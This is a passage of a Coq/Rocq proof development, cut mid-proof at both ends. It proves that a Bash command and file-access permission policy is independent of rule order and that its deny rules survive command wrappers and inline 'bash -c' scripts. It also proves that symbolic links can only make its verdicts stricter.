  destruct (shell_dash_c_script _) as [|i| |]; try done. destruct (_ !! i) as [s|]; [|by destruct inline, inline'].
  specialize (I s). destruct inline, inline'; naive_solver.
Qed.

Lemma forallb_ext' {A} (p q : A -> bool) l : (forall x, p x = q x) -> forallb p l = forallb q l.
Proof. intros H. induction l as [|x l IH]; [done|]. cbn. by rewrite H, IH. Qed.

Lemma chain_ext P Q n scope cmd : (forall ws, bash_words_allowed P ws scope = bash_words_allowed Q ws scope) ->
  bash_chain_fully_allowed P n scope cmd = bash_chain_fully_allowed Q n scope cmd.
Proof.
  intros H. revert cmd. induction n as [|n IH]; intros cmd; cbn [bash_chain_fully_allowed];
    (destruct (all_commands_from_script cmd) as [[|c segs]|]; [done| |done]); apply forallb_ext'; intros x;
    apply segment_allowed_ext; [done|done|done|]. intros s. cbn. by rewrite IH.
Qed.

#[global] Instance applying_perm access cwd a :
  Proper (Permutation ==> Permutation) (fun rs => List.filter (fun r => applies access cwd r && is_action a r) rs).
Proof. intros l k H. induction H; cbn; repeat case_match; eauto using Permutation. Qed.

Lemma applying_nonempty cfg cfg' access cwd a : rules cfg ≡ₚ rules cfg' ->
  is_nil (applying cfg access cwd a) = is_nil (applying cfg' access cwd a).
Proof.
  intros H. pose proof (applying_perm access cwd a _ _ H) as P. cbn beta in P. unfold applying.
  destruct (List.filter _ (rules cfg)); [by apply Permutation_nil in P as ->|].
  destruct (List.filter _ (rules cfg')); [by symmetry in P; apply Permutation_nil in P|done].
Qed.

Lemma granted_perm cfg cfg' access cwd : rules cfg ≡ₚ rules cfg' ->
  granted cfg access cwd = granted cfg' access cwd.
Proof.
  intros H. pose proof (applying_nonempty cfg cfg' access cwd RAllow H) as N. unfold granted, is_nil in *.
  destruct access; lazymatch goal with
  | |- context [bash_chain_fully_allowed] => idtac
  | _ => by destruct (applying cfg _ _ _), (applying cfg' _ _ _)
  end.
  cbn [has_bash_allow_rules CompiledPolicy_new]. rewrite (existsb_perm _ _ _ H).
  rewrite (chain_ext _ (CompiledPolicy_new cfg')); [done|]. intros ws. rewrite !bash_words_granted. unfold words_granted. by rewrite (existsb_perm _ _ _ H).
Qed.

(** The order in which rules are written does not matter: two
    configurations with the same rules in different orders reach the same kind
    of verdict on every access. *)
Theorem evaluate_order_independent cfg cfg' access cwd : rules cfg ≡ₚ rules cfg' ->
  decision_rank <$> evaluate_lexical_with_cwd (CompiledPolicy_new cfg) access cwd
  = decision_rank <$> evaluate_lexical_with_cwd (CompiledPolicy_new cfg') access cwd.
Proof.
  intros H. rewrite !evaluate_verdict. unfold verdict.
  pose proof (applying_nonempty cfg cfg' access cwd RDeny H) as D.
  pose proof (applying_nonempty cfg cfg' access cwd RAsk H) as A. unfold is_nil in D, A.
  destruct (applying cfg _ _ RDeny), (applying cfg' _ _ RDeny); try done.
  destruct (applying cfg _ _ RAsk), (applying cfg' _ _ RAsk); try done. by rewrite (granted_perm _ _ _ _ H).
Qed.

(** *** A Bash grant covers every command *)

(** With [n] levels of inline scripts left, running the script runs the command
    [ws], its wrappers and prefixes peeled off. *)
Inductive Runs : nat -> string -> list string -> Prop :=
| runs_here n cmd segs c :
    all_commands_from_script cmd = Some segs -> c ∈ segs -> Runs n cmd (nw_words (normalize_command_words (words c)))
| runs_inline n cmd segs c i script ws :
    all_commands_from_script cmd = Some segs -> c ∈ segs ->
    shell_dash_c_script (Literal <$> nw_words (normalize_command_words (words c))) = InlineLiteral i ->
    nw_words (normalize_command_words (words c)) !! i = Some script ->
    Runs n script ws -> Runs (S n) cmd ws.

Lemma chain_segments P n scope cmd : bash_chain_fully_allowed P n scope cmd = true ->
  exists segs, all_commands_from_script cmd = Some segs /\ segs <> [] /\ forall c, c ∈ segs ->
    segment_allowed P match n with O => None | S m => Some (bash_chain_fully_allowed P m scope) end scope c = true.
Proof.
  destruct n; cbn [bash_chain_fully_allowed]; destruct (all_commands_from_script cmd) as [[|c segs]|]; try discriminate;
    rewrite forallb_forall; intros H; exists (c :: segs); (split_and!; [done|done|]); intros x Hx;
    by apply H, list_elem_of_In.
Qed.

Lemma segment_allowed_true P inline scope c : segment_allowed P inline scope c = true ->
  let norm := normalize_command_words (words c) in
  clean norm = true /\ bash_words_allowed P (nw_words norm) scope = true /\
  match shell_dash_c_script (Literal <$> nw_words norm) with
  | InlineLiteral i => exists rec script, inline = Some rec /\ nw_words norm !! i = Some script /\ rec script = true
  | NotInline => True
  | _ => False
  end.
Proof.
  unfold segment_allowed, clean. cbv zeta. generalize (normalize_command_words (words c)). intros norm.
  destruct (nw_exhausted norm), (nw_ambiguous norm), (nw_env_options_uncertain norm), (nw_has_split_string norm);
    try discriminate. cbn [orb negb andb]. destruct (bash_words_allowed P (nw_words norm) scope); [|discriminate].
  cbn [negb]. intros H. split_and!; [done|done|]. destruct (shell_dash_c_script _) as [|i| |]; try done.
  destruct inline as [rec|], (_ !! i) as [script|]; try done. eauto.
Qed.

Lemma chain_covers P n scope cmd ws : Runs n cmd ws -> bash_chain_fully_allowed P n scope cmd = true ->
  bash_words_allowed P ws scope = true /\ nf peel ws.
Proof.
  induction 1 as [n cmd segs c E Hc|n cmd segs c i script ws E Hc Hi Hs _ IH];
    intros (segs'&E'&_&H)%chain_segments; rewrite E in E'; injection E' as <-;
    apply H, segment_allowed_true in Hc as (C&W&I); cbv zeta in *.
  - split; [done|]. apply clean_bare in C as [W' T']. intros [y [Y | Y]]; congruence.
  - rewrite Hi in I. destruct I as (rec&s'&[= <-]&Es&R). rewrite Hs in Es. injection Es as <-. by apply IH.
Qed.

(** When a Bash command is allowed, no deny and no ask rule matches it,
    the script could be taken apart completely, and every command it runs, also
    inside [bash -c] scripts and under wrappers, is covered by an allow rule of
    its own. *)
Theorem bash_allow_covers_all cfg cmd cwd :
  evaluate_lexical_with_cwd (CompiledPolicy_new cfg) (Bash cmd) cwd = Some DAllow ->
  applying cfg (Bash cmd) cwd RDeny = [] /\ applying cfg (Bash cmd) cwd RAsk = [] /\
  (exists ws, Runs MAX_INLINE_SHELL_DEPTH cmd ws) /\
  forall ws, Runs MAX_INLINE_SHELL_DEPTH cmd ws ->
    nf peel ws /\ exists r, r ∈ rules cfg /\ rule_action r = RAllow /\ bash_or_any r = true /\
      bash_allow_pattern_matches (join " " ws) r (compile_matcher r) = true.
Proof.
  rewrite evaluate_verdict. unfold verdict. destruct (applying _ _ _ RDeny); [|done].
  destruct (applying _ _ _ RAsk); [|done]. intros [[_ C]%andb_true_iff _]%then_some_some. split_and!; [done|done| |].
  - destruct (chain_segments _ _ _ _ C) as ([|c segs]&E&Ne&_); [done|]. eexists. eapply runs_here; [done|by left].
  - intros ws R. destruct (chain_covers _ _ _ _ _ R C) as [W ?]. split; [done|]. rewrite bash_words_granted in W.
    apply andb_true_iff in W as [_ (r&Hr%list_elem_of_In&M)%existsb_exists].
    unfold allow_rule_matches in M. rewrite !andb_true_iff in M. destruct M as [[[_ A] B] M].
    exists r. split_and!; try done. unfold allows in A. by destruct (rule_action r).
Qed.
End precedence.

(** ** The gate sees every command *)

Definition gate_rank (d : option GateDecision) : nat := match d with Some g => rank g | None => 0 end.

Lemma combine_rank a b : gate_rank (combine_gate_decisions a b) = (gate_rank a `max` gate_rank b)%nat.
Proof. destruct a as [a|], b as [b|]; cbn; try lia. destruct (Nat.leb_spec (rank b) (rank a)); lia. Qed.

Lemma gate_rank_reject d : gate_rank d = 3 <-> exists r, d = Some (GReject r).
Proof. destruct d as [[]|]; cbn; naive_solver. Qed.

Lemma gate_rank_le d : (gate_rank d <= 3)%nat.
Proof. destruct d as [[]|]; cbn; lia. Qed.

Section gate.
Context `{T : TreeSitter} `{G : GlobCrate} `{U : UrlCrate} `{L : Unicode} `{F : FileSystem} `{J : SerdeJson}.
Context (P : CompiledPolicy).

#[local] Abbreviation norm c := (normalize_command_words (words c)).

(** With [n] levels of inline scripts left, the script shows [seg] to the
    rules: a command of it as written, its peeled form, or what an inline
    script shows. *)
Inductive Exposed : nat -> string -> string -> Prop :=
| exposed_raw n cmd segs c :
    all_commands_from_script cmd = Some segs -> c ∈ segs -> Exposed n cmd (join " " (words c))
| exposed_peeled n cmd segs c :
    all_commands_from_script cmd = Some segs -> c ∈ segs -> Exposed n cmd (join " " (nw_words (norm c)))
| exposed_inline n cmd segs c i script seg :
    all_commands_from_script cmd = Some segs -> c ∈ segs ->
    shell_dash_c_script (Literal <$> nw_words (norm c)) = InlineLiteral i ->
    nw_words (norm c) !! i = Some script -> Exposed n script seg -> Exposed (S n) cmd seg
| exposed_env n cmd segs c script seg :
    all_commands_from_script cmd = Some segs -> c ∈ segs ->
    env_split_string_script (nw_words (norm c)) = Some script -> Exposed n script seg -> Exposed (S n) cmd seg.

(** Some part of the script cannot be looked at: it does not parse into plain
    commands, a command's wrappers are not certain, a shell's options are not
    understood, or inline scripts are nested too deep. *)
Inductive Undecided : nat -> string -> Prop :=
| und_parse n cmd : all_commands_from_script cmd = None -> Undecided n cmd
| und_words n cmd segs c : all_commands_from_script cmd = Some segs -> c ∈ segs -> clean (norm c) = false -> Undecided n cmd
| und_shell n cmd segs c : all_commands_from_script cmd = Some segs -> c ∈ segs ->
    shell_dash_c_script (Literal <$> nw_words (norm c)) ∈ [Untrusted; Unrecognized] -> Undecided n cmd
| und_deep cmd segs c i : all_commands_from_script cmd = Some segs -> c ∈ segs ->
    shell_dash_c_script (Literal <$> nw_words (norm c)) = InlineLiteral i -> Undecided 0 cmd
| und_deep_env cmd segs c script : all_commands_from_script cmd = Some segs -> c ∈ segs ->
    env_split_string_script (nw_words (norm c)) = Some script -> Undecided 0 cmd
| und_inline n cmd segs c i script :
    all_commands_from_script cmd = Some segs -> c ∈ segs ->
    shell_dash_c_script (Literal <$> nw_words (norm c)) = InlineLiteral i ->
    nw_words (norm c) !! i = Some script -> Undecided n script -> Undecided (S n) cmd
| und_env n cmd segs c script :
    all_commands_from_script cmd = Some segs -> c ∈ segs ->
    env_split_string_script (nw_words (norm c)) = Some script -> Undecided n script -> Undecided (S n) cmd.

(** What one command contributes, as a list. *)
Definition inline_part (inline : option (string -> option GateDecision)) (ws : list string) : option GateDecision :=
  match shell_dash_c_script (Literal <$> ws) with
  | InlineLiteral i => match ws !! i with
                       | Some script => match inline with Some rec => rec script | None => Some AskFailClosed end
                       | None => None
                       end
  | Untrusted | Unrecognized => Some AskFailClosed
  | NotInline => None
  end.
Definition env_part (inline : option (string -> option GateDecision)) (ws : list string) : option GateDecision :=
  match env_split_string_script ws with
  | Some script => match inline with Some rec => rec script | None => Some AskFailClosed end
  | None => None
  end.

Lemma words_rank inline ws :
  gate_rank (evaluate_command_words P inline ws) =
  list_max [if clean (normalize_command_words ws) then 0 else 1; gate_rank (escalate P (join " " ws));
            gate_rank (escalate P (join " " (nw_words (normalize_command_words ws))));
            gate_rank (inline_part inline (nw_words (normalize_command_words ws)));
            gate_rank (env_part inline (nw_words (normalize_command_words ws)))].
Proof.
  pose proof (peels_suffix _ _ (normalize_reach ws)) as [p S].
  unfold evaluate_command_words, inline_part, env_part. generalize dependent (normalize_command_words ws). intros w S.
  set (e := escalate P). clearbody e.
  assert (C : gate_rank (combine_gate_decisions (then_some (nw_exhausted w || nw_ambiguous w || nw_env_options_uncertain w)
      AskFailClosed) (then_some (nw_has_split_string w) AskFailClosed)) = if clean w then 0 else 1).
  { unfold clean. by destruct (nw_exhausted w), (nw_ambiguous w), (nw_env_options_uncertain w), (nw_has_split_string w). }
  set (d0 := combine_gate_decisions (then_some _ _) (then_some _ _)) in *. clearbody d0.
  assert (D : gate_rank (foldl (fun d ws => combine_gate_decisions d (e (join " " ws))) d0
      (ws :: (if negb (length (nw_words w) =? length ws)%nat then [nw_words w] else [])))
    = list_max [if clean w then 0 else 1; gate_rank (e (join " " ws)); gate_rank (e (join " " (nw_words w)))]).
  { rewrite <- C. destruct (Nat.eqb_spec (length (nw_words w)) (length ws)) as [E|E]; cbn; rewrite ?combine_rank; [|lia].
    assert (nw_words w = ws) as -> by (destruct p; [done|]; subst ws; rewrite length_app in E; cbn in E; lia). lia. }
  set (d1 := foldl _ _ _) in *. clearbody d1. cbn [list_max foldr] in *.
  destruct (shell_dash_c_script _) as [|i| |]; [|destruct (_ !! i)| |]; destruct (env_split_string_script _);
    rewrite ?combine_rank, ?D; cbn; lia.
Qed.

Lemma fold_rank {A} (f : A -> option GateDecision) l d t :
  (t <= gate_rank (foldl (fun d c => combine_gate_decisions d (f c)) d l))%nat <->
  (t <= gate_rank d)%nat \/ exists c, c ∈ l /\ (t <= gate_rank (f c))%nat.
Proof.
  revert d. induction l as [|c l IH]; intros d; cbn [foldl].
  - split; [by left|]. intros [?|(c&Hc&_)]; [done|]. by apply elem_of_nil in Hc.
  - rewrite IH, combine_rank. setoid_rewrite elem_of_cons. split.
    + intros [H|(x&Hx&H)]; [|by eauto]. destruct (decide (t <= gate_rank d)%nat); [by left|]. right. exists c.
      split; [by left|lia].
    + intros [H|(x&[-> | Hx]&H)]; [left; lia|left; lia|by eauto].
Qed.

(** The decision procedure for the inline scripts at depth [n]. *)
Definition inline_at (n : nat) : option (string -> option GateDecision) :=
  match n with O => None | S m => Some (evaluate_bash_command_segments P m) end.

Lemma segments_unfold n cmd : evaluate_bash_command_segments P n cmd =
  match all_commands_from_script cmd with
  | None => Some AskFailClosed
  | Some segs => foldl (fun d c => combine_gate_decisions d (evaluate_command_words P (inline_at n) (words c))) None segs
  end.
Proof. by destruct n. Qed.

Lemma segments_rank n cmd t : (1 <= t)%nat ->
  (t <= gate_rank (evaluate_bash_command_segments P n cmd))%nat <->
  (all_commands_from_script cmd = None /\ t = 1) \/
  exists segs c, all_commands_from_script cmd = Some segs /\ c ∈ segs /\
    (t <= gate_rank (evaluate_command_words P (inline_at n) (words c)))%nat.
Proof.
  intros Ht. rewrite segments_unfold. destruct (all_commands_from_script cmd) as [segs|].
  - rewrite fold_rank. cbn [gate_rank]. split.
    + intros [?|(c&Hc&H)]; [lia|]. right. eauto.
    + intros [[? _]|(segs'&c&[= <-]&Hc&H)]; [done|]. right. eauto.
  - cbn. split; [left; split; [done|lia]|]. intros [[_ ->]|(?&?&?&_)]; [lia|done].
Qed.

Lemma list_max_le_iff l t : (1 <= t)%nat -> (t <= list_max l)%nat <-> exists x, x ∈ l /\ (t <= x)%nat.
Proof.
  intros Ht. induction l as [|x l IH]; cbn.
  - split; [lia|]. intros (x&Hx&_). by apply elem_of_nil in Hx.
  - setoid_rewrite elem_of_cons. change (foldr Init.Nat.max 0 l) with (list_max l). split.
    + intros H. destruct (decide (t <= x)%nat); [by eauto|].
      destruct (proj1 IH) as (y&?&?); [lia|]. by eauto.
    + intros (y&[-> | Hy]&?); [lia|]. assert (t <= list_max l)%nat by (apply IH; eauto). lia.
Qed.

(** The parts of one command that may raise the rank to [t]. *)
Lemma command_rank inline c t : (1 <= t)%nat ->
  (t <= gate_rank (evaluate_command_words P inline (words c)))%nat <->
  (t = 1 /\ clean (norm c) = false) \/ (t <= gate_rank (escalate P (join " " (words c))))%nat \/
  (t <= gate_rank (escalate P (join " " (nw_words (norm c)))))%nat \/
  (t <= gate_rank (inline_part inline (nw_words (norm c))))%nat \/
  (t <= gate_rank (env_part inline (nw_words (norm c))))%nat.
Proof.
  intros Ht. rewrite words_rank, list_max_le_iff by done.
  setoid_rewrite elem_of_cons. setoid_rewrite elem_of_cons. setoid_rewrite elem_of_cons. setoid_rewrite elem_of_cons.
  setoid_rewrite elem_of_cons. setoid_rewrite elem_of_nil. split.
  - intros (x&[-> | [-> | [-> | [-> | [-> | []]]]]]&H); eauto 6. destruct (clean (norm c)); [lia|]. left. split; [lia|done].
  - intros [[-> C]|[H|[H|[H|H]]]]; [|eexists; split; [|exact H]; eauto 10..].
    exists 1. rewrite C. split; [by left|lia].
Qed.

Lemma gate_raised n cmd t : (1 <= t)%nat -> (t <= gate_rank (evaluate_bash_command_segments P n cmd))%nat ->
  (t = 1 /\ Undecided n cmd) \/ exists seg, Exposed n cmd seg /\ (t <= gate_rank (escalate P seg))%nat.
Proof.
  intros Ht. revert cmd. induction n as [|n IH]; intros cmd.
  all: intros [[E ->]|(segs&c&E&Hc&H)]%segments_rank; [left; split; [done|by constructor]| |done].
  all: apply command_rank in H as [[-> C]|[H|[H|[H|H]]]]; [left; split; [done|by eapply und_words]| | | | |done].
  all: try (right; eexists; split; [|exact H]; by econstructor).
  all: unfold inline_part, env_part in H; cbn [inline_at] in H.
  - destruct (shell_dash_c_script _) as [|i| |] eqn:S; [cbn in H; lia|destruct (_ !! i); [|cbn in H; lia]|..].
    all: left; split; [cbn in H; lia|]; try by eapply und_deep. all: eapply und_shell; [done|done|]; rewrite S; set_solver.
  - destruct (env_split_string_script _) eqn:S; [|cbn in H; lia]. left. split; [cbn in H; lia|]. by eapply und_deep_env.
  - destruct (shell_dash_c_script _) as [|i| |] eqn:S; [cbn in H; lia|destruct (_ !! i) eqn:N; [|cbn in H; lia]|..].
    + apply IH in H as [[-> V]|(seg&X&H)]; [left; split; [done|]; by eapply und_inline|right].
      exists seg. split; [|done]. by eapply exposed_inline.
    + left; split; [cbn in H; lia|]. eapply und_shell; [done|done|]. rewrite S. set_solver.
    + left; split; [cbn in H; lia|]. eapply und_shell; [done|done|]. rewrite S. set_solver.
  - destruct (env_split_string_script _) eqn:S; [|cbn in H; lia].
    apply IH in H as [[-> V]|(seg&X&H)]; [left; split; [done|]; by eapply und_env|right].
    exists seg. split; [|done]. by eapply exposed_env.
Qed.

Lemma command_raises n cmd segs c t : (1 <= t)%nat -> all_commands_from_script cmd = Some segs -> c ∈ segs ->
  (t <= gate_rank (evaluate_command_words P (inline_at n) (words c)))%nat ->
  (t <= gate_rank (evaluate_bash_command_segments P n cmd))%nat.
Proof. intros Ht E Hc H. apply segments_rank; [done|]. right. by exists segs, c. Qed.

Lemma exposed_raises n cmd seg t : (1 <= t)%nat -> Exposed n cmd seg -> (t <= gate_rank (escalate P seg))%nat ->
  (t <= gate_rank (evaluate_bash_command_segments P n cmd))%nat.
Proof.
  intros Ht X H. induction X as [n cmd segs c E Hc|n cmd segs c E Hc|n cmd segs c i s seg E Hc S N X IH|
    n cmd segs c s seg E Hc S X IH]; (eapply command_raises; [done|done|done|]); apply command_rank; eauto.
  - right; right; right; left. unfold inline_part. rewrite S, N. by apply IH.
  - right; right; right; right. unfold env_part. rewrite S. by apply IH.
Qed.

Lemma undecided_raises n cmd : Undecided n cmd -> (1 <= gate_rank (evaluate_bash_command_segments P n cmd))%nat.
Proof.
  induction 1 as [n cmd E|n cmd segs c E Hc C|n cmd segs c E Hc S|cmd segs c i E Hc S|cmd segs c s E Hc S|
    n cmd segs c i s E Hc S N X IH|n cmd segs c s E Hc S X IH]; [apply segments_rank; eauto|..];
    (eapply command_raises; [done|done|done|]); apply command_rank; eauto.
  - right; right; right; left. unfold inline_part. rewrite !elem_of_cons, elem_of_nil in S. by destruct S as [-> | [-> | []]].
  - right; right; right; left. unfold inline_part. rewrite S. by destruct (inline_index_range _ _ S) as [s ->].
  - right; right; right; right. unfold env_part. by rewrite S.
  - right; right; right; left. unfold inline_part. by rewrite S, N.
  - right; right; right; right. unfold env_part. by rewrite S.
Qed.

Lemma escalate_reject seg : (3 <= gate_rank (escalate P seg))%nat <-> exists r, evaluate P (Bash seg) = Some (DReject r).
Proof. unfold escalate. destruct (evaluate P (Bash seg)) as [[]|]; cbn; split; naive_solver lia. Qed.

Lemma escalate_ask seg : (2 <= gate_rank (escalate P seg))%nat <->
  (exists r, evaluate P (Bash seg) = Some (DReject r)) \/ evaluate P (Bash seg) = Some DAsk.
Proof. unfold escalate. destruct (evaluate P (Bash seg)) as [[]|]; cbn; split; naive_solver lia. Qed.

Lemma gate_reject_exposed cmd : has_bash_command_restrictions P = true ->
  (exists r, evaluate_bash_command_gate P cmd = Some (GReject r)) <->
  exists seg, Exposed MAX_INLINE_SHELL_DEPTH cmd seg /\ exists r, evaluate P (Bash seg) = Some (DReject r).
Proof.
  intros R. unfold evaluate_bash_command_gate. rewrite R. cbn [negb]. rewrite <- gate_rank_reject. split.
  - intros H. destruct (gate_raised MAX_INLINE_SHELL_DEPTH cmd 3) as [[? _]|(seg&X&E)]; [lia|lia|done|].
    exists seg. split; [done|]. by apply escalate_reject.
  - intros (seg&X&E%escalate_reject). apply (exposed_raises _ _ _ 3) in X; [|lia|done].
    pose proof (gate_rank_le (evaluate_bash_command_segments P MAX_INLINE_SHELL_DEPTH cmd)). lia.
Qed.

End gate.

(** ** A denied command under wrappers *)

Section wrapped.
Context `{T : TreeSitter} `{G : GlobCrate} `{U : UrlCrate} `{L : Unicode} `{F : FileSystem} `{J : SerdeJson}.

Lemma deny_verdict cfg access rc r : r ∈ rules cfg -> rule_action r = RDeny -> applies access rc r = true ->
  exists reason, evaluate_lexical_with_cwd (CompiledPolicy_new cfg) access rc = Some (DReject reason).
Proof.
  intros Hr Ha Hm. rewrite evaluate_verdict. unfold verdict.
  destruct (applying cfg access rc RDeny) as [|d ds] eqn:E; [|eauto]. exfalso.
  assert (H : r ∈ applying cfg access rc RDeny).
  { apply list_elem_of_In, filter_In. split; [by apply list_elem_of_In|]. unfold is_action. by rewrite Hm, Ha. }
  rewrite E in H. by apply elem_of_nil in H.
Qed.

Lemma deny_applies cfg access r : r ∈ rules cfg -> rule_action r = RDeny -> applies access None r = true ->
  native_file_path access = None -> exists reason, evaluate (CompiledPolicy_new cfg) access = Some (DReject reason).
Proof.
  intros Hr Ha Hm N. unfold evaluate, evaluate_with_cwd, evaluate_with_cwd_details. rewrite N. by eapply deny_verdict.
Qed.

(** A deny rule for a command holds wherever the command appears in a
    script and under any mix of up to eight wrappers and transparent prefixes
    ([env], [timeout], [nice], [exec], [command] and the like): the gate rejects
    the whole script. *)
Theorem wrapped_deny_rejects cfg cmd segs c k b r :
  all_commands_from_script cmd = Some segs -> c ∈ segs ->
  nsteps peel k (words c) b -> (k <= 8)%nat -> bare b ->
  r ∈ rules cfg -> rule_action r = RDeny -> applies (Bash (join " " b)) None r = true ->
  exists reason, evaluate_bash_command_gate (CompiledPolicy_new cfg) cmd = Some (GReject reason).
Proof.
  intros E Hc Hk K B Hr Ha Hm. apply gate_reject_exposed.
  - cbn. apply existsb_exists. exists r. split; [by apply list_elem_of_In|]. unfold restricts, bash_or_any. rewrite Ha.
    unfold applies, rule_matches in Hm. apply andb_true_iff in Hm as [Hm _]. cbn [fst] in Hm. by destruct (rule_tool r).
  - destruct (normalize_bare k (words c) b B Hk K) as [_ W]. exists (join " " b).
    split; [rewrite <- W; by eapply exposed_peeled|by eapply deny_applies].
Qed.

Lemma segment_allowed_iff P inline scope c : segment_allowed P inline scope c = true <->
  let norm := normalize_command_words (words c) in
  clean norm = true /\ bash_words_allowed P (nw_words norm) scope = true /\
  match shell_dash_c_script (Literal <$> nw_words norm) with
  | InlineLiteral i => exists rec script, inline = Some rec /\ nw_words norm !! i = Some script /\ rec script = true
  | NotInline => True
  | _ => False
  end.
Proof.
  split; [apply segment_allowed_true|]. unfold segment_allowed, clean. cbv zeta.
  generalize (normalize_command_words (words c)). intros norm (C&W&I).
  destruct (nw_exhausted norm), (nw_ambiguous norm), (nw_env_options_uncertain norm), (nw_has_split_string norm);
    try discriminate. cbn [orb]. rewrite W. cbn [negb]. destruct (shell_dash_c_script _); try done.
  by destruct I as (rec&script&->&->&->).
Qed.

Lemma words_granted_mono cfg ws : words_granted cfg NarrowOnly ws = true -> words_granted cfg ScopeAny ws = true.
Proof.
  unfold words_granted. rewrite !andb_true_iff. intros [[N _] E]. split_and!; [done|done|].
  apply existsb_exists in E as (r&Hr&M). apply existsb_exists. exists r. split; [done|].
  unfold allow_rule_matches in *. rewrite !andb_true_iff in *. naive_solver.
Qed.

Lemma chain_mono cfg n cmd : bash_chain_fully_allowed (CompiledPolicy_new cfg) n NarrowOnly cmd = true ->
  bash_chain_fully_allowed (CompiledPolicy_new cfg) n ScopeAny cmd = true.
Proof.
  revert cmd. induction n as [|n IH]; intros cmd (segs&E&Ne&H)%chain_segments; cbn [bash_chain_fully_allowed]; rewrite E;
    (destruct segs as [|c segs]; [done|]); apply forallb_forall; intros x Hx%list_elem_of_In;
    apply H, segment_allowed_iff in Hx as (C&W&I); apply segment_allowed_iff; cbv zeta in *;
    rewrite bash_words_granted in *; (split_and!; [done|by apply words_granted_mono|]);
    destruct (shell_dash_c_script _); try done; destruct I as (rec&script&R&N&Y); try discriminate R.
  injection R as <-. eexists _, script. eauto.
Qed.

(** An allow that holds with narrow rules alone also holds with all rules:
    what may skip the classifier is a part of what the policy allows. *)
Theorem narrow_allow_is_allow cfg cmd cwd :
  narrow_allow_authorizes (CompiledPolicy_new cfg) (Bash cmd) = true ->
  applying cfg (Bash cmd) cwd RDeny = [] -> applying cfg (Bash cmd) cwd RAsk = [] ->
  evaluate_lexical_with_cwd (CompiledPolicy_new cfg) (Bash cmd) cwd = Some DAllow /\
  forall ws, Runs MAX_INLINE_SHELL_DEPTH cmd ws ->
    head_is_exec_vehicle ws = false /\
    exists r, r ∈ rules cfg /\ rule_action r = RAllow /\ rule_is_catchall r = false /\
      bash_allow_pattern_matches (join " " ws) r (compile_matcher r) = true.
Proof.
  cbn [narrow_allow_authorizes]. intros [R C]%andb_true_iff D A. split.
  - rewrite evaluate_verdict. unfold verdict, granted. rewrite D, A, R, chain_mono by done. done.
  - intros ws Hw. destruct (chain_covers _ _ _ _ _ Hw C) as [W _]. rewrite bash_words_granted in W.
    unfold words_granted in W. rewrite !andb_true_iff in W. destruct W as [[_ V] (r&Hr%list_elem_of_In&M)%existsb_exists].
    rewrite bool_decide_true in V by done. split; [by destruct (head_is_exec_vehicle ws)|]. exists r.
    unfold allow_rule_matches in M. rewrite bool_decide_true in M by done. rewrite !andb_true_iff in M.
    destruct M as [[[K M] _] ?]. split_and!; [done| |by destruct (rule_is_catchall r)|done].
    unfold allows in M. by destruct (rule_action r).
Qed.
End wrapped.

(** ** Symbolic links only tighten *)

Section symlinks.
Context `{T : TreeSitter} `{G : GlobCrate} `{U : UrlCrate} `{L : Unicode} `{F : FileSystem} `{J : SerdeJson}.
Context (P : CompiledPolicy).

(** Where the path of an access leads, when links take it elsewhere. *)
Definition followed (access : AccessKind Value) (cwd : option string) : SymlinkFollow :=
  match native_file_path access ≫= fun path => raw_absolute_tool_path path cwd with
  | Some raw => follow_absolute_symlink raw
                  (path_match_string (absolute_normalized_path (unwrap_or "" (native_file_path access)) cwd))
  | None => FollowNone
  end.

Lemma lexical_kinds access cwd :
  evaluate_lexical_with_cwd P access cwd = None \/ evaluate_lexical_with_cwd P access cwd = Some DAllow \/
  evaluate_lexical_with_cwd P access cwd = Some DAsk \/
  exists r, evaluate_lexical_with_cwd P access cwd = Some (DReject r).
Proof. unfold evaluate_lexical_with_cwd. repeat case_match; eauto. Qed.

Lemma native_path_access access path : native_file_path access = Some path ->
  forall t, exists a : AccessKind Value, access_with_path access t = Some a.
Proof. intros H t. destruct access as [[]|[]| | | | | |]; try done; by eexists. Qed.

(** Following links can only make a verdict stricter.  The result is never
    below the verdict on the path as written; a deny or ask on the path a link
    leads to is in it; an allow on that path grants nothing; and where links
    cannot be resolved under deny or ask rules the access asks and is marked. *)
Theorem links_only_tighten access cwd :
  let '(d, marked) := evaluate_with_cwd_details P access cwd in
  let lexical := evaluate_lexical_with_cwd P access cwd in
  (unwrap_or 0 (decision_rank <$> lexical) <= unwrap_or 0 (decision_rank <$> d))%nat /\
  (d = Some DAllow -> lexical = Some DAllow) /\
  match followed access cwd with
  | FollowTarget t =>
      marked = false /\
      exists a, access_with_path access t = Some a /\
        (evaluate_lexical_with_cwd P a cwd = Some DAsk -> d <> Some DAllow /\ d <> None) /\
        (forall r, evaluate_lexical_with_cwd P a cwd = Some (DReject r) -> exists r', d = Some (DReject r'))
  | FollowUnresolvable =>
      marked = native_path_restrictions_apply P access /\ (marked = true -> d <> Some DAllow /\ d <> None)
  | FollowNone => marked = false /\ d = lexical
  end.
Proof.
  unfold evaluate_with_cwd_details, followed. destruct (native_file_path access) as [path|] eqn:N; [|done].
  cbn [mbind option_bind unwrap_or]. destruct (raw_absolute_tool_path path cwd) as [raw|]; [|done].
  pose proof (lexical_kinds access cwd) as K. revert K. generalize (evaluate_lexical_with_cwd P access cwd).
  intros lexical K. destruct (follow_absolute_symlink _ _) as [|t|]; [done| |].
  - destruct (native_path_access _ _ N t) as [a E]. rewrite E. cbn [mbind option_bind].
    pose proof (lexical_kinds a cwd) as K'. split_and!; [| | |exists a; split_and!; [done| |]];
      destruct K as [-> | [-> | [-> | [r ->]]]], K' as [K' | [K' | [K' | [r' K']]]]; rewrite ?K'; cbn;
      first [lia | by eauto | naive_solver].
  - destruct (native_path_restrictions_apply P access); [|done].
    split_and!; try done; destruct K as [-> | [-> | [-> | [r ->]]]]; cbn; first [lia | by eauto | naive_solver].
Qed.
End symlinks.

(** ** The forms of a path *)

Lemma replace_slash a s : replace "\" "/" (String a s) = String (if byte_eqb "\" a then "/"%char else a) (replace "\" "/" s).
Proof. unfold replace. cbn [replace_from]. unfold starts_with. cbn [strip_prefix]. by destruct (byte_eqb "\" a). Qed.

Lemma lossy_head a s : exists b t, from_utf8_lossy (String a s) = String b t /\ (b = "."%char -> a = "."%char /\ t = from_utf8_lossy s).
Proof.
  cbn [from_utf8_lossy]. destruct (in_range 0 127 a) eqn:E; [eexists _, _; split; [reflexivity|naive_solver]|].
  assert (N : a <> "."%char) by (by intros ->). unfold REPLACEMENT.
  repeat case_match; (eexists _, _; split; [reflexivity|]); intros ?; simplify_eq.
Qed.

Lemma pms_short s : (path_match_string s = "" -> s = "") /\ (path_match_string s = "." -> s = ".").
Proof.
